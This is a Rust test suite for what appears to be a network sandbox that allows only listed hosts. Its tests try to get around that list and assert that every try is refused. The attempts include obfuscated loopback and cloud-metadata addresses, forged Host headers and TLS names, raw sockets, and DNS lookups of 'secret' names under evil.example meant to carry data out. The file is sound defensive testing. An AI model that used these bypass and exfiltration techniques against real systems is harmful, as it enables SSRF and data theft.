//! What does not get through a list of hosts, however it is tried.

use super::{Names, PUBLIC, python, run, serve, shout};
use std::io::ErrorKind;
use std::net::{Ipv4Addr, TcpListener};
use std::time::Instant;

/// A listener that nobody may reach.
struct Untouched(TcpListener);

impl Untouched {
    fn at(address: Ipv4Addr) -> Self {
        let listener = TcpListener::bind((address, 0)).unwrap();
        listener.set_nonblocking(true).unwrap();
        Self(listener)
    }

    fn port(&self) -> u16 {
        self.0.local_addr().unwrap().port()
    }
}

impl Drop for Untouched {
    fn drop(&mut self) {
        if !std::thread::panicking() {
            assert_eq!(self.0.accept().unwrap_err().kind(), ErrorKind::WouldBlock, "somebody got through");
        }
    }
}

#[tokio::test]
async fn another_name_and_another_port_are_refused() {
    let (listed, other) = (Untouched::at(PUBLIC), Untouched::at(PUBLIC));
    let port = listed.port();
    let names = Names::of(&[("a.example", &["127.77.0.1"]), ("evil.example", &["127.77.0.1"])]);
    let hosts = [format!("a.example:{port}")];
    let tries =
        [("evil.example", port), ("a.example.evil.example", port), ("xa.example", port), ("example", port)];
    for (name, port) in tries {
        let ran = run(&[&hosts[0]], &names, &python(name, port, "print(c.recv(9)); sys.exit(0)")).await;
        assert_ne!(ran.receipt.end.exit_code(), 0, "{name}: {}", ran.said);
        assert_eq!(ran.denied(), [(name.to_owned(), port, 1, "not listed".to_owned())]);
    }
    let ran = run(&[&hosts[0]], &names, &python("a.example", other.port(), "")).await;
    assert!(ran.said.contains("refused"), "another port is refused at once: {}", ran.said);
    assert!(names.asked().is_empty(), "and nobody was asked: {:?}", names.asked());
}

#[tokio::test]
async fn addresses_in_any_spelling_lead_nowhere() {
    let host = Untouched::at(Ipv4Addr::LOCALHOST);
    let public = Untouched::at(PUBLIC);
    let hosts = [format!("a.example:{},{}", host.port(), public.port())];
    let names = Names::of(&[("a.example", &["127.77.0.1"])]);
    let spellings = "2130706433 0x7f.1 127.1 0177.0.0.1 ::ffff:127.0.0.1 169.254.169.254 10.0.0.1 0.0.0.0 127.77.0.1 ::1 \
                     64:ff9b::7f00:1 198.18.77.77 198.19.255.254 255.255.255.255";
    let script = "import socket as s, sys\nfor spelling in sys.argv[1].split():\n    for port in sys.argv[2:]:\n        \
                  try: c = s.create_connection((spelling, int(port)), 5)\n        except OSError: continue\n        \
                  try: answer = c.recv(9)\n        except OSError: continue\n        \
                  assert not answer, (spelling, port, answer)";
    let command = format!("python3 -c '{script}' '{spellings}' {} {} 443 80", host.port(), public.port());
    run(&[&hosts[0]], &names, &command).await.fine();
    assert!(names.asked().is_empty(), "{:?}", names.asked());
}

#[tokio::test]
async fn a_listed_name_that_leads_home_is_refused() {
    let home = Untouched::at(Ipv4Addr::LOCALHOST);
    let public = Untouched::at(PUBLIC);
    let ways: [&[&str]; 7] = [
        &["127.0.0.1"],
        &["10.0.0.1"],
        &["169.254.169.254"],
        &["::1"],
        &["::ffff:127.0.0.1"],
        &["fd00::1"],
        &["127.77.0.1", "127.0.0.1"],
    ];
    for addresses in ways {
        for port in [home.port(), public.port()] {
            let names = Names::of(&[("a.example", addresses)]);
            let hosts = [format!("a.example:{port}")];
            let ran =
                run(&[&hosts[0]], &names, &python("a.example", port, "print(c.recv(9) or sys.exit(3))"))
                    .await;
            assert_ne!(ran.receipt.end.exit_code(), 0, "{addresses:?}: {}", ran.said);
            let denied = ran.denied();
            assert!(denied.len() == 1 && denied[0].3.ends_with("which is not public"), "{denied:?}");
        }
    }
}

/// Speaks a request or a ClientHello by hand, and says what came back.
fn by_hand(port: u16, bytes: &str) -> String {
    let then = format!(
        "c.settimeout(30)\nfor piece in {bytes}: c.sendall(piece)\nc.shutdown(s.SHUT_WR)\nanswer = b\"\"\n\
         try:\n    while True:\n        got = c.recv(999)\n        if not got: break\n        answer += got\n\
         except ConnectionError: answer += b\"RESET\"\nprint(answer)"
    );
    python("a.example", port, &then)
}

#[tokio::test]
async fn a_refusal_is_told_in_the_words_of_the_protocol() {
    let names = Names::of(&[("a.example", &["127.77.0.1"])]);
    let plain = r#"[b"GET / HTTP/1.1\r\nHost: a.example\r\n\r\n"]"#;
    let ran = run(&["b.example"], &names, &by_hand(80, plain)).await.fine();
    assert!(ran.said.contains("403 Forbidden"), "{}", ran.said);
    assert!(
        ran.said.contains("runward: a.example:80 is not in sandbox.network [network.denied]"),
        "{}",
        ran.said
    );
    let ssl = "python3 -c '\nimport ssl, socket as s\nt = ssl.create_default_context()\n\
               try: t.wrap_socket(s.create_connection((\"a.example\", 443), 20), server_hostname=\"a.example\")\n\
               except ssl.SSLError as error: print(error)'";
    let ran = run(&["b.example"], &names, ssl).await.fine();
    assert!(ran.said.to_lowercase().contains("access denied"), "{}", ran.said);
    assert_eq!(ran.denied(), [("a.example".to_owned(), 443, 1, "not listed".to_owned())]);
}

#[tokio::test]
async fn another_name_in_the_request_than_in_the_question_is_refused() {
    let names = Names::of(&[("a.example", &["127.77.0.1"])]);
    let requests = [
        (r#"[b"GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n"]"#, "host evil.example"),
        (
            r#"[b"GET / HTTP/1.1\r\nHost: a.example\r\nHost: evil.example\r\n\r\n"]"#,
            "no request with one host",
        ),
        (r#"[b"GET / HTTP/1.1\r\n\r\n"]"#, "no request with one host"),
        (r#"[b"GET / HTTP/1.1\r\nHost: a.ex"]"#, "request cut short"),
        (r#"[b"SSH-2.0-x\r\n"]"#, "no request with one host"),
    ];
    for (request, why) in requests {
        let ran = run(&["a.example"], &names, &by_hand(80, request)).await;
        let wanted = [("a.example".to_owned(), 80, 1, why.to_owned())];
        assert_eq!(ran.denied(), wanted, "{request}: {}", ran.said);
    }
    let tls = "python3 -c '\nimport ssl, socket as s, sys\nt = ssl.create_default_context()\n\
               name = sys.argv[1] or None\nt.check_hostname = False\nt.verify_mode = ssl.CERT_NONE\n\
               try: t.wrap_socket(s.create_connection((\"a.example\", 443), 20), server_hostname=name)\n\
               except OSError as error: print(error)'";
    for (name, why) in [("evil.example", "tls name evil.example"), ("", "no tls name")] {
        let ran = run(&["a.example"], &names, &format!("{tls} \"{name}\"")).await;
        assert_eq!(ran.denied(), [("a.example".to_owned(), 443, 1, why.to_owned())], "{}", ran.said);
    }
    for (bytes, why) in
        [(r#"[b"SSH-2.0-x\r\n"]"#, "no TLS"), (r#"[b"\x16\x03\x01\x02\x00\x01"]"#, "ClientHello cut short")]
    {
        let ran = run(&["a.example"], &names, &by_hand(443, bytes)).await;
        assert_eq!(ran.denied(), [("a.example".to_owned(), 443, 1, why.to_owned())], "{}", ran.said);
    }
}

#[tokio::test]
async fn silence_is_ended_after_ten_seconds() {
    let names = Names::of(&[("a.example", &["127.77.0.1"])]);
    let begun = Instant::now();
    let waits = python("a.example", 443, "c.settimeout(60)\nprint(c.recv(9))");
    let ran = run(&["a.example"], &names, &waits).await;
    let why = "no ClientHello within 10 seconds".to_owned();
    assert_eq!(ran.denied(), [("a.example".to_owned(), 443, 1, why)], "{}", ran.said);
    assert!(begun.elapsed().as_secs() >= 10);
}

#[tokio::test]
async fn names_carry_nothing_out() {
    let names = Names::of(&[("a.example", &["127.77.0.1"])]);
    let script = "python3 -c '\nimport socket as s\nfor n in range(200):\n    \
                  s.getaddrinfo(f\"secret{n}.evil.example\", 443)\ns.getaddrinfo(\"a.example\", 443)'";
    let ran = run(&["a.example"], &names, script).await.fine();
    assert!(names.asked().is_empty(), "{:?}", names.asked());
    assert_eq!(ran.receipt.network.unwrap().connections, 0);
}

#[tokio::test]
async fn datagrams_and_other_sockets_are_refused_at_once() {
    let script = "python3 -c '\nimport socket as s, errno
u = s.socket(s.AF_INET, s.SOCK_DGRAM)
for address in [\"1.1.1.1\", \"10.0.0.1\", \"169.254.169.254\", \"255.255.255.255\"]:
    try: u.sendto(b\"x\", (address, 53)); raise SystemExit(address)
    except OSError as error: assert error.errno in (errno.ENETUNREACH, errno.EACCES), error
for how in [(s.AF_PACKET, s.SOCK_RAW), (s.AF_INET, s.SOCK_RAW, 1), (s.AF_INET, s.SOCK_RAW, 6), (s.AF_NETLINK, s.SOCK_RAW, 9),
            (s.AF_NETLINK, s.SOCK_RAW, 12), (s.AF_VSOCK, s.SOCK_STREAM), (s.AF_INET, s.SOCK_DGRAM, 1)]:
    try: s.socket(*how); raise SystemExit(str(how))
    except PermissionError: pass
'";
    run(&["a.example"], &Names::default(), script).await.fine();
}

#[tokio::test]
async fn commands_do_not_meet_in_their_networks() {
    let port = serve(PUBLIC, 0, shout).port();
    let names = Names::of(&[("a.example", &["127.77.0.1"]), ("b.example", &["127.77.0.1"])]);
    let hosts = [format!("a.example:{port}"), format!("b.example:{port}")];
    // The same address is another name for each.
    let asks = |name: &str| {
        let look = format!("import socket as s\nprint(s.getaddrinfo(\"{name}\", 1)[0][4][0])");
        format!("python3 -c '{look}'")
    };
    let (asked_a, asked_b) = (asks("a.example"), asks("b.example"));
    let (host_a, host_b) = ([hosts[0].as_str()], [hosts[1].as_str()]);
    let (one, other) = tokio::join!(run(&host_a, &names, &asked_a), run(&host_b, &names, &asked_b));
    assert_eq!((one.said.trim(), other.said.trim()), ("198.18.0.1", "198.18.0.1"));
    let ran = run(&[&hosts[1]], &names, &python("198.18.0.1", port, "print(c.recv(9) or sys.exit(3))")).await;
    assert_ne!(ran.receipt.end.exit_code(), 0, "an address of another command: {}", ran.said);
}
